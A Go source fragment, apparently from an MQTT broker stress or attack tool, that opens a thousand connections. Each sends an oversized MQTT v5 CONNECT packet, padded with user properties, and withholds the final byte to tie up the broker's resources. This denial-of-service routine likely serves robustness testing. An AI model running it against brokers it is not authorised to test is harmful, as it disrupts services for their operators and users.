package main

import (
	"context"
	"strings"
	"time"
)

const (
	unread = "attack/unread" // a topic that nobody reads
	mega   = 1 << 20         // bytes of the largest payload that is taken
)

// halfConnects sends 1,000 CONNECTs but for the last byte.
func halfConnects(size int) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		b := hello{id: "half", version: v5, properties: userProperties(size)}.bytes()
		crowd(ctx, 1000, 32, func(i int) {
			if p, err := a.dial(ctx, 2+i%10, a.mqtt); err == nil {
				_, _ = p.Write(b[:len(b)-1])
			}
		})
		wait(ctx, time.Second)
		return nil
	}
}

// userProperties are some that take about so many bytes.
func userProperties(size int) (b []byte) {
	one := userProperty("key", strings.Repeat("v", 1000))
	for len(b)+len(one) <= size {
		b = append(b, one...)
	}
	return b
}
